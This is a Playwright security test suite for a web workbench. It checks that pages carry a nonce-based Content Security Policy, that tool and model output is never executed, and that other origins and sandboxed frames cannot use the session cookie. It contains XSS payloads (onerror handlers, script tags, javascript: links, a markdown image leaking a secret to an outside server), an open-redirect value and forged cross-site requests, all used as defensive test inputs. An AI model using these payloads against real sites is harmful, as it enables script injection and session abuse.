import type { Page } from '@playwright/test';
import { finalCall, invoke } from './contract/kit/calls.ts';
import { spec } from './contract/kit/tool-client.ts';
import { askingOptions } from './support/asking-board.ts';
import { startOutside } from './support/outside.ts';
import { expect, test } from './support/scripted-run.ts';
import {
  cardOf,
  cards,
  cardsFor,
  chooseInMenu,
  connection,
  conversation,
  say,
  signIn,
  untilReady,
} from './support/workbench.ts';

test.use({ serverOf: 'file' });

declare global {
  interface Window {
    pwned?: unknown;
  }
}

/** It lists what the page was kept from by its policy, and what it threw. */
async function watchTrouble(page: Page): Promise<readonly string[]> {
  const trouble: string[] = [];
  await page.exposeFunction('tellViolation', (text: string) => trouble.push(text));
  await page.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (event) => {
      const tell: unknown = Reflect.get(window, 'tellViolation');
      if (typeof tell === 'function') tell(`${event.violatedDirective} ${event.blockedURI}`);
    });
  });
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) trouble.push(message.text());
  });
  page.on('pageerror', (error) => trouble.push(String(error)));
  return trouble;
}

test('every page has a policy with a nonce of its own, and keeps to it', async ({
  page,
  startServer,
}, testInfo) => {
  const callboard = await startServer(await askingOptions(testInfo));
  const trouble = await watchTrouble(page);
  await page.goto(`${callboard.url}/sign-in`);
  await signIn(page, callboard);
  await untilReady(page);
  await page.getByRole('button', { name: /Take a screenshot/ }).click();
  await expect(cardsFor(page, 'browser.screenshot')).toHaveAttribute('data-status', 'SUCCESS');
  await expect(conversation(page)).toContainText('rules, not an LLM');
  const question = cardOf(page, await invoke(callboard, 'ask_human', { question: 'Why?' }));
  await expect(question.getByRole('textbox')).toBeVisible();
  await page.keyboard.press('Control+K');
  await expect(page.getByRole('dialog', { name: 'Commands' })).toBeVisible();
  const nonces = new Set<string>();
  for (const path of ['/', '/docs', '/sign-in']) {
    const answer = await page.goto(callboard.url + path);
    const policy = (await answer?.headerValue('content-security-policy')) ?? '';
    const nonce = /script-src 'nonce-([^']+)' 'strict-dynamic';/.exec(policy)?.[1] ?? '';
    expect(nonce, path).not.toBe('');
    nonces.add(nonce);
    await expect(page.getByRole('heading', { level: 1 })).toBeAttached();
    await page.waitForLoadState('networkidle');
  }
  expect(nonces.size).toBe(3);
  expect(trouble).toEqual([]);
});

test('T100: what tools and models say is shown, and never requested or run', async ({
  page,
  startScripted,
  connect,
}) => {
  const outside = await startOutside();
  const html = `<img src="${outside.url}/html" onerror="window.pwned=1"><script>window.pwned=2</script>`;
  const markdown = `![leak](${outside.url}/markdown?secret=1) [click](javascript:window.pwned=3) [data](data:text/html,<script>1</script>)`;
  const hostile = `${html} ${markdown}`;
  const { board } = await startScripted('chat', ({ index }) =>
    index === 0
      ? { calls: [{ name: 'tide_read', args: { place: hostile } }] }
      : { text: `Here: ${markdown}\n\n${html}\n\n<a href="javascript:window.pwned=4">link</a>` },
  );
  const program = await connect.client(board, {
    hello: { name: `Gauge ${html}`.slice(0, 128), kind: 'program' },
    tools: [
      spec('tide.read', { description: hostile, annotations: { title: html, readOnlyHint: true } }),
    ],
  });
  await signIn(page, board);
  await untilReady(page);
  await say(page, `Read the tide ${hostile}`);
  const { id } = await program.request();
  program.send({ type: 'tool_status', id, tip: hostile, preview: { [html]: hostile } });
  const card = cardOf(page, id);
  await expect(card).toContainText('<script>window.pwned=2</script>');
  program.succeed(id, { [html]: hostile, url: `${outside.url}/result` }, { display: hostile });
  await expect(card).toHaveAttribute('data-status', 'SUCCESS');
  await expect(conversation(page)).toContainText('Here:');
  await expect(page.getByTestId('run-status')).toBeHidden();
  const failed = await invoke(board, 'tide.read');
  await program.request();
  program.fail(failed, hostile, { code: html.slice(0, 64) });
  await expect(cardOf(page, failed)).toHaveAttribute('data-status', 'ERROR');

  await chooseInMenu(page, card, 'What the model got');
  await expect(page.getByTestId('model-output')).toContainText('onerror');
  await page.keyboard.press('Escape');
  const hrefs = await conversation(page)
    .locator('a')
    .evaluateAll((all) => all.map((link) => link.getAttribute('href') ?? ''));
  expect(hrefs.filter((href) => !/^(https?:|mailto:|\/|#|$)/.test(href))).toEqual([]);
  await page.goto(`${board.url}/tools?tool=tide.read`);
  await expect(page.getByRole('article')).toContainText('onerror');
  await page.waitForLoadState('networkidle');
  expect(await page.evaluate(() => window.pwned)).toBeUndefined();
  expect(outside.requests).toEqual([]);
  await outside.close();
});

test('T11: nothing in an address makes the page connect elsewhere', async ({ page, callboard }) => {
  const outside = await startOutside();
  const asked: string[] = [];
  page.on('websocket', (socket) => asked.push(socket.url()));
  page.on('request', (request) => asked.push(request.url()));
  await signIn(page, callboard);
  const ws = outside.url.replace('http', 'ws');
  const query = ['gatewayUrl', 'url', 'server', 'api', 'baseUrl', 'ws', 'token', 'next']
    .map((name) => `${name}=${encodeURIComponent(ws)}`)
    .join('&');
  await page.goto(`${callboard.url}/?${query}&run=%3Cimg%20src%3Dx%3E#call=%E0%A4%A`);
  await expect(connection(page)).toContainText('1 client ');
  await expect(page.getByText('This conversation does not exist')).toBeVisible();
  await page.goto(`${callboard.url}/sign-in?${query}&next=//${new URL(outside.url).host}/x`);
  await page.getByLabel('Token', { exact: true }).fill(callboard.token);
  await page.getByRole('button', { name: 'Sign in' }).click();
  await page.waitForURL((url) => !url.pathname.startsWith('/sign-in'));
  const host = new URL(callboard.url).host;
  // Pictures of earlier calls are shown from memory, under an address of the page's own.
  const hostOf = (url: string) => new URL(url.replace(/^blob:/, '')).host;
  expect(asked.filter((url) => !url.startsWith('data:') && hostOf(url) !== host)).toEqual([]);
  expect(asked.filter((url) => url.startsWith('ws')).length).toBeGreaterThan(1);
  expect(outside.requests).toEqual([]);
  await outside.close();
});

test('T04 T09 T13: a page of another origin can neither frame the workbench nor use its cookie', async ({
  page,
  context,
  callboard,
}) => {
  await signIn(page, callboard);
  await untilReady(page);
  // It is of the same site: another port counts for nothing there, and the cookie would be sent.
  const outside = await startOutside(`<iframe src="${callboard.url}/"></iframe>`);
  const stranger = await context.newPage();
  await stranger.goto(outside.url);
  await expect.poll(() => stranger.frames()[1]?.url()).toMatch(/^chrome-error:/);

  const tried = await stranger.evaluate(async (url) => {
    const post = fetch(`${url}/v1/tools/calculation.eval/invoke`, {
      method: 'POST',
      mode: 'no-cors',
      credentials: 'include',
      body: JSON.stringify({ run_id: 'run_stranger', args: { expression: '6*7' } }),
    });
    await post.catch(() => null);
    const read = await fetch(`${url}/v1/tools`, { credentials: 'include' }).then(
      () => 'read',
      () => 'refused',
    );
    const sockets = ['/ws/watch', '/ws/client'].map(
      (path) =>
        new Promise<string>((resolve) => {
          const socket = new WebSocket(url.replace('http', 'ws') + path);
          socket.onopen = () => resolve('open');
          socket.onclose = () => resolve('refused');
        }),
    );
    return [read, ...(await Promise.all(sockets))];
  }, callboard.url);
  expect(tried).toEqual(['refused', 'refused', 'refused']);

  const mine = await invoke(callboard, 'calculation.eval', { expression: '1+1' });
  await finalCall(callboard, mine);
  await expect(cardOf(page, mine)).toBeVisible();
  // Other tests of this file have calls of their own here; the stranger's would show its expression.
  await expect(cards(page).filter({ hasText: '6*7' })).toHaveCount(0);
  await outside.close();
});

test('T03: a sandboxed frame, whose origin is null, opens no socket with the cookie', async ({
  page,
  context,
  callboard,
}) => {
  await signIn(page, callboard);
  await untilReady(page);
  const script = `const ends = [];
    for (const path of ['/ws/watch', '/ws/client']) {
      const socket = new WebSocket('${callboard.url.replace('http', 'ws')}' + path);
      const end = (how) => { ends.push(how); if (ends.length === 2) parent.postMessage(ends.join(), '*'); };
      socket.onopen = () => end('open');
      socket.onclose = () => end('refused');
    }`;
  const frame = `<iframe sandbox="allow-scripts" srcdoc="<script>${script}</script>"></iframe>`;
  const listen = `<script>addEventListener('message', ({ data, origin }) => {
    document.title = origin + ' ' + data;
  });</script>`;
  const outside = await startOutside(listen + frame);
  const visit = await context.newPage();
  await visit.goto(outside.url);
  await expect(visit).toHaveTitle('null refused,refused');
  await outside.close();
});
